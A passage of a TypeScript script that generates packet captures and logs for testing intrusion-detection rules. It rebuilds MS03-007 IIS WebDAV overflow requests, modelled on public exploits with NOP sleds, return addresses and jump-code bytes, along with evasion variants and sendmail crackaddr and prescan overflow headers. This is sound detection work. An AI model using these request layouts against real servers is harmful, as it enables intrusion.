/**
 * Writes samples/: for every rule in rules/ at least one capture or log file that must trigger
 * it and one near miss that must not, plus samples/manifest.json (what each file must trigger)
 * and samples/README.md. Deterministic: fixed timestamps, addresses and sequence numbers, and a
 * seeded generator where bytes must look random, so a rerun rewrites identical files.
 *
 *   npx tsx scripts/make-samples.ts [OUTDIR]      (default: samples/)
 *
 * Network: the monitored network is 192.168.0.0/16 (servers in 192.168.1.0/24, desktops in
 * 192.168.10.0/24); attackers and Internet hosts use the documentation ranges 198.51.100.0/24
 * and 203.0.113.0/24. The manifest records that HOME_NET, which the direction-aware rules need.
 */
import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import {
  type BuiltPacket,
  type HttpExchange,
  type HttpRequestSpec,
  type HttpResponseSpec,
  type SendOptions,
  type TcpSession,
  concatBytes,
  encodePcap,
  fragmentPacket,
  httpConversation,
  icmpPacket,
  smtpConversation,
  tcpSession,
  toBytes,
  udpPacket,
} from '../src/traffic/index.js';

const ROOT = resolve(dirname(fileURLToPath(import.meta.url)), '..');
/** samples/ of the repository, or the directory given as the first argument (tests compare the two). */
const OUT = process.argv[2] !== undefined ? resolve(process.argv[2]) : join(ROOT, 'samples');

/** The variables every sample is scanned with (see the manifest). */
const VARS = { HOME_NET: '192.168.0.0/16' } as const;

/** 2003-03-17 09:00:00 UTC, the week after Deloder and CodeRed.F, the day MS03-007 came out. */
const BASE_US = Date.UTC(2003, 2, 17, 9, 0, 0) * 1000;

// Hosts of the sample network.
const IIS = '192.168.1.10';
const MAIL = '192.168.1.25';
const SQL = '192.168.1.30';
const FILESRV = '192.168.1.40';
const SSHD = '192.168.1.22';
const TELNETD = '192.168.1.15';
const DESKTOP = '192.168.10.23';
const COLLEAGUE = '192.168.10.50';
const ATTACKER = '203.0.113.5';
const ATTACKER2 = '198.51.100.7';
const REMOTE_WEB = '203.0.113.80';
const REMOTE_MX = '203.0.113.25';
const REMOTE_SQL = '203.0.113.77';

// ---------------------------------------------------------------------------------------------
// Sample registry

type SampleKind = 'pcap' | 'log';

interface Sample {
  /** Path under samples/. */
  file: string;
  kind: SampleKind;
  /** Sids the whole file must trigger, exactly (empty for a negative sample). */
  expect: number[];
  /** For negative samples: the rules this file is a near miss for. */
  against?: number[];
  /** One line for the README: what the file shows. */
  shows: string;
  bytes: Uint8Array;
}

const samples: Sample[] = [];
let sampleIndex = 0;

/** Each sample starts ten minutes after the previous one, so captures never overlap in time. */
function nextStart(): number {
  return BASE_US + sampleIndex++ * 600_000_000;
}

function pcap(file: string, expect: number[], shows: string, build: (cap: Capture) => void, against?: number[]): void {
  const cap = new Capture(nextStart());
  build(cap);
  samples.push({ file: `pcap/${file}`, kind: 'pcap', expect, shows, bytes: encodePcap(cap.packets), ...(against ? { against } : {}) });
}

function log(file: string, expect: number[], shows: string, lines: readonly string[], against?: number[]): void {
  sampleIndex++;
  samples.push({ file: `logs/${file}`, kind: 'log', expect, shows, bytes: toBytes(lines.join('\n') + '\n'), ...(against ? { against } : {}) });
}

// ---------------------------------------------------------------------------------------------
// Building captures

/** The packets of one sample file, in time order, with a clock and client ports of its own. */
class Capture {
  readonly packets: BuiltPacket[] = [];
  private port = 1030;

  constructor(private clock: number) {}

  now(): number {
    return this.clock;
  }

  ephemeral(ip: string): string {
    return `${ip}:${this.port++}`;
  }

  add(packets: readonly BuiltPacket[]): void {
    for (const p of packets) {
      this.packets.push(p);
      if (p.tsUs >= this.clock) this.clock = p.tsUs + 1000;
    }
    this.clock += 50_000;
  }

  session(session: TcpSession): void {
    this.add(session.packets());
  }

  tcp(client: string, server: string, mss?: number): TcpSession {
    return tcpSession({ client: this.ephemeral(client), server, startUs: this.clock, ...(mss !== undefined ? { mss } : {}) });
  }

  /** One HTTP connection carrying the given exchanges. */
  http(client: string, server: string, exchanges: readonly HttpExchange[], pipeline = false): void {
    this.session(httpConversation({ client: this.ephemeral(client), server, startUs: this.clock, exchanges, pipeline }));
  }
}

/** A deterministic byte stream that looks random (xorshift32), for ciphertext and hashes. */
function noise(length: number, seed: number, avoid: readonly number[] = []): Uint8Array {
  const out = new Uint8Array(length);
  let x = seed >>> 0 || 0x9e3779b9;
  for (let i = 0; i < length; ) {
    x ^= x << 13;
    x >>>= 0;
    x ^= x >>> 17;
    x ^= x << 5;
    x >>>= 0;
    const b = x & 0xff;
    if (avoid.includes(b)) continue;
    out[i++] = b;
  }
  return out;
}

const latin1 = (b: Uint8Array): string => Buffer.from(b).toString('latin1');

/** Bytes that never end a request line or split a request target. */
const URI_UNSAFE = [0x00, 0x09, 0x0a, 0x0d, 0x20, 0x23, 0x25, 0x3f];

/** Filler for exploit URIs: also free of dots, slashes, backslashes and UTF-8 lead bytes. */
const URI_FILLER_AVOID = [...URI_UNSAFE, 0x2e, 0x2f, 0x5c, 0xc0, 0xc1, 0xe0, 0xf0];

function get(uri: string, headers: Record<string, string> = {}): HttpRequestSpec {
  return { method: 'GET', uri, version: 'HTTP/1.0', headers: { 'User-Agent': 'Mozilla/4.0 (compatible; MSIE 5.5; Windows NT 5.0)', ...headers } };
}

function notFound(): HttpResponseSpec {
  return { status: 404, headers: { Server: 'Microsoft-IIS/5.0', 'Content-Type': 'text/html' }, body: '<html><body>The page cannot be found</body></html>' };
}

function ok(body: string, type = 'text/html', extra: Record<string, string> = {}): HttpResponseSpec {
  return { status: 200, headers: { Server: 'Microsoft-IIS/5.0', 'Content-Type': type, ...extra }, body };
}

function multiStatus(body = '<?xml version="1.0"?><a:multistatus xmlns:a="DAV:"/>'): HttpResponseSpec {
  return { status: 207, reason: 'Multi-Status', headers: { Server: 'Microsoft-IIS/5.0', 'Content-Type': 'text/xml' }, body };
}

// ---------------------------------------------------------------------------------------------
// MS03-007: ntdll.dll through WebDAV (sids 3100001-3100010)

const DAV_SEARCH_BODY =
  '<?xml version="1.0"?>\r\n<a:searchrequest xmlns:a="DAV:">\r\n<a:sql>\r\nSELECT "DAV:displayname" FROM scope()\r\n</a:sql>\r\n</a:searchrequest>\r\n';

function longUri(length: number, fill = 'A'): string {
  return '/' + fill.repeat(length - 1);
}

function webdavSamples(): void {
  pcap(
    'ms03-007/search-overflow.pcap',
    [3100001],
    'SEARCH with a 65535-byte URI and a DAV search body, sent in full-size segments; the server never answers',
    (cap) => {
      const s = cap.tcp(ATTACKER, `${IIS}:80`);
      s.handshake();
      s.send('client', concatBytes([toBytes(`SEARCH ${longUri(65535)} HTTP/1.1\r\nHost: ${IIS}\r\nContent-Type: text/xml\r\nContent-Length: ${DAV_SEARCH_BODY.length}\r\n\r\n`), toBytes(DAV_SEARCH_BODY)]));
      s.reset('server');
      cap.session(s);
    },
  );

  pcap(
    'ms03-007/search-overflow-lowercase-reordered.pcap',
    [3100001],
    'the same overflow with the method in lower case, the first bytes in 1-3 byte segments sent out of order, two segments retransmitted',
    (cap) => {
      const req = toBytes(`search ${longUri(65535, 'B')} HTTP/1.1\r\nHost: ${IIS}\r\nContent-Type: text/xml\r\nContent-Length: ${DAV_SEARCH_BODY.length}\r\n\r\n${DAV_SEARCH_BODY}`);
      const sizes = [1, 2, 3, 2, 1, 500, 700];
      let rest = req.length - sizes.reduce((a, b) => a + b, 0);
      while (rest > 0) {
        sizes.push(Math.min(1400, rest));
        rest -= 1400;
      }
      const order = sizes.map((_, i) => i);
      [order[0], order[1]] = [order[1]!, order[0]!];
      [order[3], order[4]] = [order[4]!, order[3]!];
      [order[8], order[9]] = [order[9]!, order[8]!];
      const s = cap.tcp(ATTACKER2, `${IIS}:80`);
      s.handshake();
      s.send('client', req, { segments: sizes, order, duplicate: [2, 6] });
      s.reset('server');
      cap.session(s);
    },
  );

  pcap(
    'ms03-007/propfind-overflow-percent-encoded.pcap',
    [3100001],
    'PROPFIND whose URI is 33000 characters once decoded, every one sent as %41 (99001 bytes on the wire)',
    (cap) => {
      const s = cap.tcp(ATTACKER, `${IIS}:80`);
      s.handshake();
      s.send('client', `PROPFIND /${'%41'.repeat(33000)} HTTP/1.1\r\nHost: ${IIS}\r\nDepth: 0\r\nContent-Length: 0\r\n\r\n`);
      s.send('server', 'HTTP/1.1 400 Bad Request\r\nServer: Microsoft-IIS/5.0\r\nContent-Length: 0\r\n\r\n');
      s.close('server');
      cap.session(s);
    },
  );

  pcap(
    'ms03-007/lock-overflow-u-encoded-fragments.pcap',
    [3100001],
    'LOCK (mixed case "Lock") with a 33001-character URI written as IIS %u0041 escapes, every TCP segment split into three IP fragments',
    (cap) => {
      const s = cap.tcp(ATTACKER2, `${IIS}:80`);
      s.handshake();
      s.send('client', `Lock /${'%u0041'.repeat(33000)} HTTP/1.1\r\nHost: ${IIS}\r\nTimeout: Infinite\r\nContent-Length: 0\r\n\r\n`, { fragment: [512, 512] });
      s.reset('server');
      cap.session(s);
    },
  );

  pcap(
    'ms03-007/translate-f-get-overflow.pcap',
    [3100002],
    'GET with "Translate: f" (which IIS routes to its WebDAV handler) and a 40000-byte path',
    (cap) => {
      cap.http(ATTACKER, `${IIS}:80`, [
        { request: { method: 'GET', uri: longUri(40000, 'C'), headers: { Host: IIS, Translate: 'f' } }, response: null },
      ]);
    },
  );

  pcap(
    'ms03-007/propfind-long-uri.pcap',
    [3100003],
    'PROPFIND with an 8000-byte URI: far longer than any real client sends, too short to overflow',
    (cap) => {
      cap.http(ATTACKER, `${IIS}:80`, [
        { request: { method: 'PROPFIND', uri: longUri(8000, 'D'), headers: { Host: IIS, Depth: '1', 'Content-Length': '0' } }, response: { status: 414, reason: 'Request-URI Too Long' } },
      ]);
    },
  );

  pcap(
    'ms03-007/rs_iis-exploit.pcap',
    [3100001, 3100004, 3100006],
    'request shaped like the public rs_iis exploit: SEARCH /, a NOP, 2-byte return addresses, a NOP sled and the jump code ending a 65535-byte URI, then the DAV body, 0x01 and the payload',
    (cap) => {
      const jump = '\x8b\xf9\x32\xc0\xfe\xc0\xf2\xae\xff\xe7';
      const head = '\x90' + '\x04\x48'.repeat(1075);
      const uri = '/' + head + '\x90'.repeat(65535 - 1 - head.length - jump.length) + jump;
      const payload = latin1(noise(700, 0x5ee1, [0x00]));
      const body = DAV_SEARCH_BODY + '\x01\x90\x90\x90' + payload;
      const s = cap.tcp(ATTACKER, `${IIS}:80`);
      s.handshake();
      s.send('client', `SEARCH ${uri} HTTP/1.1\r\nHost: ${IIS}\r\nContent-Type: text/xml\r\nContent-Length: ${body.length}\r\n\r\n${body}`);
      s.reset('server');
      cap.session(s);
    },
  );

  pcap(
    'ms03-007/wb-exploit.pcap',
    [3100001, 3100005, 3100006, 3100010],
    'the public wb.c exploit sequence: a bodiless "SEARCH /" probe answered 411, then SEARCH / with 2500 bytes of 0x12 return-address padding, a NOP sled and a payload at offset 64000',
    (cap) => {
      cap.http(ATTACKER2, `${IIS}:80`, [
        { request: `SEARCH / HTTP/1.1\r\nHost: ${IIS}\r\n\r\n`, response: { status: 411, reason: 'Length Required', headers: { Server: 'Microsoft-IIS/5.0' } } },
      ]);
      const filler = latin1(noise(65535 - 64000, 0xb0b, URI_FILLER_AVOID));
      const uri = '/' + '\x12'.repeat(2500) + '\x90'.repeat(64000 - 2500) + filler;
      const s = cap.tcp(ATTACKER2, `${IIS}:80`);
      s.handshake();
      s.send('client', `SEARCH ${uri} HTTP/1.1\r\nHost: ${IIS}\r\nContent-type: text/xml\r\nContent-Length: ${DAV_SEARCH_BODY.length}\r\n\r\n`);
      s.send('client', DAV_SEARCH_BODY);
      s.reset('server');
      cap.session(s);
    },
  );

  pcap(
    'ms03-007/wb-exploit-encoded.pcap',
    [3100001, 3100005, 3100006],
    'the wb.c request with its return-address padding and the start of its NOP sled written as %12 and %90 escapes',
    (cap) => {
      const uri = '/' + '%12'.repeat(300) + '%90'.repeat(64) + '\x90'.repeat(2000) + 'A'.repeat(65535 - 1 - 300 - 64 - 2000);
      const s = cap.tcp(ATTACKER2, `${IIS}:80`);
      s.handshake();
      s.send('client', `SEARCH ${uri} HTTP/1.1\r\nHost: ${IIS}\r\nContent-type: text/xml\r\nContent-Length: ${DAV_SEARCH_BODY.length}\r\n\r\n${DAV_SEARCH_BODY}`);
      s.reset('server');
      cap.session(s);
    },
  );

  pcap(
    'ms03-007/rs_iis-exploit-encoded-jump.pcap',
    [3100001, 3100004, 3100006],
    'the rs_iis request with its jump code written as %XX escapes',
    (cap) => {
      const jump = '%8b%f9%32%c0%fe%c0%f2%ae%ff%e7';
      const head = '\x90' + '\x04\x48'.repeat(1075);
      const uri = '/' + head + '\x90'.repeat(65535 - 1 - head.length - 10) + jump;
      const s = cap.tcp(ATTACKER, `${IIS}:80`);
      s.handshake();
      s.send('client', `SEARCH ${uri} HTTP/1.1\r\nHost: ${IIS}\r\nContent-Type: text/xml\r\nContent-Length: ${DAV_SEARCH_BODY.length}\r\n\r\n${DAV_SEARCH_BODY}`);
      s.reset('server');
      cap.session(s);
    },
  );

  pcap(
    'ms03-007/search-probe.pcap',
    [3100010],
    'scanners checking for WebDAV with a bodiless SEARCH of the root: "search / HTTP/1.0" with extra headers, and "SEARCH /./" with Content-Length: 0',
    (cap) => {
      cap.http(ATTACKER, `${IIS}:80`, [
        { request: `search / HTTP/1.0\r\nHost: ${IIS}\r\nUser-Agent: scanner\r\nConnection: close\r\n\r\n`, response: { status: 411, reason: 'Length Required', headers: { Server: 'Microsoft-IIS/5.0' } } },
      ]);
      cap.http(ATTACKER, `${IIS}:80`, [
        { request: `SEARCH /./ HTTP/1.1\r\nHost: ${IIS}\r\nContent-Length: 0\r\n\r\n`, response: { status: 411, reason: 'Length Required', headers: { Server: 'Microsoft-IIS/5.0' } } },
      ]);
    },
  );

  const officeUa = 'Microsoft Data Access Internet Publishing Provider DAV 1.1';
  pcap(
    'ms03-007/neg-webdav-clients.pcap',
    [],
    'ordinary WebDAV use: Web Folders and Office (OPTIONS, PROPFIND with Translate: f, GET with Translate: f, LOCK, PUT, UNLOCK, MKCOL, COPY, MOVE, PROPPATCH) on short URIs',
    (cap) => {
      const h = (extra: Record<string, string> = {}): Record<string, string> => ({ Host: IIS, 'User-Agent': officeUa, Translate: 'f', ...extra });
      const propfind = '<?xml version="1.0" encoding="utf-8"?><D:propfind xmlns:D="DAV:"><D:allprop/></D:propfind>';
      const lockinfo = '<?xml version="1.0"?><D:lockinfo xmlns:D="DAV:"><D:lockscope><D:exclusive/></D:lockscope><D:locktype><D:write/></D:locktype><D:owner>alice</D:owner></D:lockinfo>';
      cap.http(COLLEAGUE, `${IIS}:80`, [
        { request: { method: 'OPTIONS', uri: '/', headers: { Host: IIS, 'User-Agent': 'Microsoft Data Access Internet Publishing Provider Protocol Discovery' } }, response: { status: 200, headers: { DAV: '1, 2', 'MS-Author-Via': 'DAV', Allow: 'OPTIONS, TRACE, GET, HEAD, DELETE, PUT, COPY, MOVE, PROPFIND, PROPPATCH, SEARCH, LOCK, UNLOCK' } } },
        { request: { method: 'PROPFIND', uri: '/docs/', headers: h({ Depth: '1', 'Content-Length': '0' }) }, response: multiStatus() },
        { request: { method: 'PROPFIND', uri: '/docs/Quarterly%20Report%202003.doc', headers: h({ Depth: '0', 'Content-Type': 'text/xml' }), body: propfind }, response: multiStatus() },
        { request: { method: 'GET', uri: '/docs/Quarterly%20Report%202003.doc', headers: h() }, response: ok('DOC', 'application/msword') },
        { request: { method: 'LOCK', uri: '/docs/Quarterly%20Report%202003.doc', headers: h({ Timeout: 'Second-180', 'Content-Type': 'text/xml' }), body: lockinfo }, response: ok('<?xml version="1.0"?><a:prop xmlns:a="DAV:"/>', 'text/xml', { 'Lock-Token': '<opaquelocktoken:e71d4fae-5dec-11d0-a765-00a0c91e6bf6>' }) },
        { request: { method: 'PUT', uri: '/docs/Quarterly%20Report%202003.doc', headers: h({ If: '(<opaquelocktoken:e71d4fae-5dec-11d0-a765-00a0c91e6bf6>)' }), body: 'updated document bytes' }, response: { status: 201, reason: 'Created' } },
        { request: { method: 'UNLOCK', uri: '/docs/Quarterly%20Report%202003.doc', headers: h({ 'Lock-Token': '<opaquelocktoken:e71d4fae-5dec-11d0-a765-00a0c91e6bf6>' }) }, response: { status: 204, reason: 'No Content' } },
        { request: { method: 'MKCOL', uri: '/docs/2003/', headers: h() }, response: { status: 201, reason: 'Created' } },
        { request: { method: 'COPY', uri: '/docs/Quarterly%20Report%202003.doc', headers: h({ Destination: `http://${IIS}/docs/2003/Q1.doc`, Overwrite: 'F' }) }, response: { status: 201, reason: 'Created' } },
        { request: { method: 'MOVE', uri: '/docs/2003/Q1.doc', headers: h({ Destination: `http://${IIS}/docs/2003/Q1-final.doc` }) }, response: { status: 201, reason: 'Created' } },
        { request: { method: 'PROPPATCH', uri: '/docs/2003/Q1-final.doc', headers: h({ 'Content-Type': 'text/xml' }), body: '<?xml version="1.0"?><D:propertyupdate xmlns:D="DAV:"><D:set><D:prop><D:displayname>Q1</D:displayname></D:prop></D:set></D:propertyupdate>' }, response: multiStatus() },
      ]);
    },
    [3100001, 3100002, 3100003, 3100010],
  );

  pcap(
    'ms03-007/neg-exchange-owa.pcap',
    [],
    'Outlook Web Access on Exchange 2000: SEARCH of a folder with a DAV:sql body, BPROPFIND, X-MS-ENUMATTS, PROPFIND; and SEARCHes of the web root that carry a body (by Content-Length, and chunked)',
    (cap) => {
      const sql = `<?xml version="1.0"?><a:searchrequest xmlns:a="DAV:"><a:sql>SELECT "DAV:displayname", "urn:schemas:httpmail:subject" FROM scope('shallow traversal of "/exchange/alice/Inbox/"') WHERE "DAV:ishidden" = false</a:sql></a:searchrequest>`;
      const h = { Host: IIS, 'User-Agent': 'Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)', 'Content-Type': 'text/xml', Translate: 'f' };
      cap.http(COLLEAGUE, `${IIS}:80`, [
        { request: { method: 'SEARCH', uri: '/exchange/alice/Inbox/', headers: { ...h, Range: 'rows=0-24' }, body: sql }, response: multiStatus() },
        { request: { method: 'BPROPFIND', uri: '/exchange/alice/Inbox/', headers: h, body: '<?xml version="1.0"?><D:propfind xmlns:D="DAV:"><D:prop><D:getcontentlength/></D:prop><D:target><D:href>Meeting.EML</D:href></D:target></D:propfind>' }, response: multiStatus() },
        { request: { method: 'X-MS-ENUMATTS', uri: '/exchange/alice/Inbox/Meeting.EML', headers: h }, response: multiStatus() },
        { request: { method: 'PROPFIND', uri: '/exchange/alice/', headers: { ...h, Depth: '0' }, body: '<?xml version="1.0"?><D:propfind xmlns:D="DAV:"><D:allprop/></D:propfind>' }, response: multiStatus() },
        { request: { method: 'SEARCH', uri: '/', headers: h, body: sql }, response: multiStatus() },
        {
          request: `SEARCH / HTTP/1.1\r\nHost: ${IIS}\r\nContent-Type: text/xml\r\nTransfer-Encoding: chunked\r\n\r\n${sql.length.toString(16)}\r\n${sql}\r\n0\r\n\r\n`,
          response: multiStatus(),
        },
      ]);
    },
    [3100001, 3100003, 3100010],
  );

  pcap(
    'ms03-007/neg-long-get.pcap',
    [],
    'long GET query strings (40000 and 12000 bytes), a 33000-byte GET path without Translate: f, and a large POST',
    (cap) => {
      cap.http(COLLEAGUE, `${IIS}:80`, [
        { request: get(`/cgi-bin/search.pl?q=${'term+'.repeat(8000)}`, { Host: IIS }), response: ok('<html>results</html>') },
        { request: get(`/app/report.asp?ids=${'1234567890,'.repeat(1090)}1`, { Host: IIS }), response: ok('<html>report</html>') },
        { request: get(longUri(33000, 'E'), { Host: IIS }), response: notFound() },
        { request: { method: 'POST', uri: '/upload.asp', headers: { Host: IIS, 'Content-Type': 'application/x-www-form-urlencoded' }, body: `data=${'x'.repeat(50000)}` }, response: ok('<html>stored</html>') },
      ]);
    },
    [3100001, 3100002, 3100003],
  );

  pcap(
    'ms03-007/neg-binary-and-utf8.pcap',
    [],
    'UTF-8 Japanese paths (raw and %-encoded, with scattered 0x90 bytes), a query with a few control characters, and a PUT of an executable whose body holds x86 NOPs and the rs_iis jump code',
    (cap) => {
      const tool = concatBytes([toBytes('MZ\x90\x00'), toBytes('\x90'.repeat(64)), toBytes('\x8b\xf9\x32\xc0\xfe\xc0\xf2\xae\xff\xe7'), noise(2000, 0x7001)]);
      cap.http(COLLEAGUE, `${IIS}:80`, [
        { request: get('/\xe6\x97\xa5\xe6\x9c\xac/\xe3\x81\x90\xe3\x81\x90\xe3\x81\x90\xe3\x81\x90.html', { Host: IIS }), response: ok('<html>page</html>') },
        { request: get('/%E6%97%A5%E6%9C%AC/%E3%81%90%E3%82%8A%E3%81%90%E3%82%89.html', { Host: IIS }), response: ok('<html>page</html>') },
        { request: get('/log.asp?line=a%0D%0A%09%09b', { Host: IIS }), response: ok('<html>ok</html>') },
        { request: { method: 'PUT', uri: '/upload/tool.exe', headers: { Host: IIS, 'User-Agent': officeUa, Translate: 'f', 'Content-Type': 'application/octet-stream' }, body: tool }, response: { status: 201, reason: 'Created' } },
      ]);
    },
    [3100004, 3100005, 3100006],
  );

  const iisHeader = [
    '#Software: Microsoft Internet Information Services 5.0',
    '#Version: 1.0',
    '#Date: 2003-03-17 09:00:00',
    '#Fields: date time c-ip cs-username s-ip s-port cs-method cs-uri-stem cs-uri-query sc-status cs(User-Agent)',
  ];
  log(
    'ms03-007-iis.log',
    [3100001],
    'IIS W3C log of a SEARCH with a 33000-byte URI, answered 400 by a patched server',
    [...iisHeader, `2003-03-17 09:00:01 ${ATTACKER} - ${IIS} 80 SEARCH ${longUri(33000)} - 400 -`],
  );
  log(
    'ms03-007-apache.log',
    [3100003],
    'Apache combined log of a PROPFIND whose 8190-byte request line was refused with 414',
    [`${ATTACKER} - - [17/Mar/2003:09:00:02 +0000] "PROPFIND ${longUri(8170)} HTTP/1.1" 414 320 "-" "-"`],
  );
  log(
    'neg-webdav-iis.log',
    [],
    'IIS W3C log of Office and Outlook Web Access WebDAV use and long GET queries',
    [
      ...iisHeader,
      `2003-03-17 09:10:00 ${COLLEAGUE} - ${IIS} 80 OPTIONS / - 200 Microsoft+Data+Access+Internet+Publishing+Provider+Protocol+Discovery`,
      `2003-03-17 09:10:01 ${COLLEAGUE} - ${IIS} 80 PROPFIND /docs/ - 207 Microsoft+Data+Access+Internet+Publishing+Provider+DAV+1.1`,
      `2003-03-17 09:10:02 ${COLLEAGUE} - ${IIS} 80 LOCK /docs/Q1.doc - 200 Microsoft+Data+Access+Internet+Publishing+Provider+DAV+1.1`,
      `2003-03-17 09:10:03 ${COLLEAGUE} - ${IIS} 80 SEARCH /exchange/alice/Inbox/ - 207 Mozilla/4.0+(compatible;+MSIE+6.0;+Windows+NT+5.1)`,
      `2003-03-17 09:10:04 ${COLLEAGUE} - ${IIS} 80 X-MS-ENUMATTS /exchange/alice/Inbox/Meeting.EML - 207 Mozilla/4.0+(compatible;+MSIE+6.0;+Windows+NT+5.1)`,
      `2003-03-17 09:10:05 ${COLLEAGUE} - ${IIS} 80 GET /cgi-bin/search.pl q=${'term+'.repeat(8000)} 200 Mozilla/4.0+(compatible;+MSIE+6.0;+Windows+NT+5.1)`,
    ],
    [3100001, 3100003, 3100010],
  );
}

// ---------------------------------------------------------------------------------------------
// sendmail crackaddr and prescan (sids 3100101-3100122)

function mail(headers: readonly string[], body = 'Hello,\r\n\r\nsee you at the meeting.\r\n'): string {
  return headers.map((h) => `${h}\r\n`).join('') + '\r\n' + body;
}

const STD_HEADERS = [
  'Date: Mon, 17 Mar 2003 09:00:00 +0000',
  'Message-ID: <20030317090000.A1234@example.net>',
  'MIME-Version: 1.0',
  'Content-Type: text/plain; charset=us-ascii',
];

function sendmailSamples(): void {
  pcap(
    'sendmail/crackaddr-angle-pairs.pcap',
    [3100101],
    'From: header holding 40 "<>" pairs before the address (the CA-2003-07 crackaddr shape)',
    (cap) => {
      cap.session(
        smtpConversation({
          client: cap.ephemeral(ATTACKER),
          server: `${MAIL}:25`,
          startUs: cap.now(),
          from: 'probe@example.net',
          to: 'postmaster@example.com',
          message: mail([`From: ${'<>'.repeat(40)}<probe@example.net>`, 'To: postmaster@example.com', 'Subject: test', ...STD_HEADERS]),
        }),
      );
    },
  );

  pcap(
    'sendmail/crackaddr-parens-folded.pcap',
    [3100102],
    'Cc: header whose comment parentheses run over a folded line, message cut into 7-13 byte segments',
    (cap) => {
      cap.session(
        smtpConversation({
          client: cap.ephemeral(ATTACKER2),
          server: `${MAIL}:25`,
          startUs: cap.now(),
          from: 'news@example.org',
          to: 'postmaster@example.com',
          message: mail(['From: news@example.org', 'To: postmaster@example.com', `cc: ${'('.repeat(12)}\r\n\t${')'.repeat(12)} list@example.com`, 'Subject: newsletter', ...STD_HEADERS]),
          messageSend: { segments: [7, 13, 9, 11, 8, 12, 10, 13, 7, 9, 11, 13, 8, 10, 12, 9, 7, 13, 11, 10] },
        }),
      );
    },
  );

  pcap(
    'sendmail/crackaddr-mixed.pcap',
    [3100101, 3100102],
    'Reply-To: header with a run of "<>" pairs followed by a run of parentheses (both halves of the public exploit shape)',
    (cap) => {
      cap.session(
        smtpConversation({
          client: cap.ephemeral(ATTACKER),
          server: `${MAIL}:25`,
          startUs: cap.now(),
          from: 'a@example.net',
          to: 'root@example.com',
          message: mail(['From: a@example.net', 'To: root@example.com', `Reply-To: ${'<> '.repeat(30)}${'()'.repeat(20)}a@example.net`, 'Subject: x', ...STD_HEADERS]),
        }),
      );
    },
  );

  pcap(
    'sendmail/prescan-envelope-0xff.pcap',
    [3100110, 3100111],
    'MAIL FROM and RCPT TO addresses made of backslash + 0xFF pairs (the CA-2003-12 prescan shape)',
    (cap) => {
      cap.session(
        smtpConversation({
          client: cap.ephemeral(ATTACKER),
          server: `${MAIL}:25`,
          startUs: cap.now(),
          from: `${'\\\xff'.repeat(40)}@example.net`,
          to: `victim${'\xff\\'.repeat(30)}@example.com`,
          message: mail(['From: x@example.net', 'To: victim@example.com', 'Subject: x', ...STD_HEADERS]),
        }),
      );
    },
  );

  pcap(
    'sendmail/prescan-envelope-lowercase.pcap',
    [3100110, 3100111],
    'the prescan envelope in lower-case commands with extra spaces ("mail from:  <...>", "rcpt to: <...>"), the MAIL line split into 4-byte segments',
    (cap) => {
      const s = cap.tcp(ATTACKER2, `${MAIL}:25`);
      s.handshake();
      s.send('server', '220 mail.example.com ESMTP Sendmail 8.12.8/8.12.8; Mon, 17 Mar 2003 09:00:00 GMT\r\n');
      s.send('client', 'helo x\r\n');
      s.send('server', '250 mail.example.com Hello\r\n');
      s.send('client', `mail from:  <${'\\\xff'.repeat(24)}@example.net>\r\n`, { segments: Array.from({ length: 30 }, () => 4) });
      s.send('server', '250 2.1.0 Sender ok\r\n');
      s.send('client', `rcpt to: <${'\xff\\'.repeat(24)}@example.com>\r\n`);
      s.send('server', '250 2.1.5 Recipient ok\r\n');
      s.send('client', 'quit\r\n');
      s.send('server', '221 2.0.0 closing connection\r\n');
      s.close('server');
      cap.session(s);
    },
  );

  pcap(
    'sendmail/prescan-header-0xff.pcap',
    [3100112],
    'To: header address with a backslash + 0xFF run; the envelope is clean',
    (cap) => {
      cap.session(
        smtpConversation({
          client: cap.ephemeral(ATTACKER2),
          server: `${MAIL}:25`,
          startUs: cap.now(),
          from: 'x@example.net',
          to: 'postmaster@example.com',
          message: mail(['From: x@example.net', `To: "${'\\\xff'.repeat(50)}"@example.com`, 'Subject: x', ...STD_HEADERS]),
        }),
      );
    },
  );

  const long = (c: string): string => `${c.repeat(240)}@example.net`;
  pcap(
    'sendmail/prescan-long-elements.pcap',
    [3100120, 3100121, 3100122],
    'MAIL FROM, RCPT TO and a To: header each listing three 250-byte elements separated by ";" or "," (the public prescan denial-of-service shape)',
    (cap) => {
      cap.session(
        smtpConversation({
          client: cap.ephemeral(ATTACKER),
          server: `${MAIL}:25`,
          startUs: cap.now(),
          from: `${long('a')};${long('b')};${long('c')}`,
          to: `${long('d')},${long('e')},${long('f')}`,
          message: mail(['From: x@example.net', `To: ${long('g')},\r\n ${long('h')},\r\n ${long('i')}`, 'Subject: x', ...STD_HEADERS]),
        }),
      );
    },
  );

  const team = Array.from({ length: 60 }, (_, i) => `"Member ${i} (Sales)" <member${i}@example.com>`);
  const folded: string[] = [];
  for (let i = 0; i < team.length; i += 3) folded.push(team.slice(i, i + 3).join(', '));
  pcap(
    'sendmail/neg-normal-mail.pcap',
    [],
    'ordinary mail: display names with parentheses, a Subject with a few brackets, a 60-address folded To: list and 30 RCPT TO, Latin-1 and CP1251 header text (0xFF included, no backslash next to it), a body full of <>, () and 0xFF, and a bounce with MAIL FROM:<>',
    (cap) => {
      cap.session(
        smtpConversation({
          client: cap.ephemeral(COLLEAGUE),
          server: `${MAIL}:25`,
          startUs: cap.now(),
          from: 'john.doe@example.com',
          to: Array.from({ length: 30 }, (_, i) => `member${i}@example.com`),
          message: mail(
            [
              'From: "Doe, John (Sales)" <john.doe@example.com>',
              `To: ${folded.join(',\r\n\t')}`,
              'Cc: "Jos\xe9 Mu\xf1oz (Madrid)" <jose@example.es>, "\xc0\xff\xe8" <ivan@example.ru>',
              'Reply-To: <>',
              'Subject: Re: [fwd] meeting <> (agenda) {draft} \xcf\xf0\xe8\xe2\xe5\xf2 \xff',
              ...STD_HEADERS,
            ],
            `Agenda:\r\n<><><><><><><><><><><><><><><><><><><><>\r\n((((((((((((((((((((()))))))))))))))))))))\r\nbinary: \\\xff\\\xff\\\xff\\\xff\xff\xff\r\n${'long line '.repeat(200)}\r\naudio/x-wav attachments are on the share; the old readme is gone.\r\n`,
          ),
        }),
      );
      cap.session(
        smtpConversation({
          client: cap.ephemeral(REMOTE_MX),
          server: `${MAIL}:25`,
          startUs: cap.now(),
          from: '',
          to: 'john.doe@example.com',
          message: mail(['From: Mail Delivery Subsystem <MAILER-DAEMON@example.org>', 'To: <john.doe@example.com>', 'Subject: Returned mail: see transcript for details', ...STD_HEADERS]),
        }),
      );
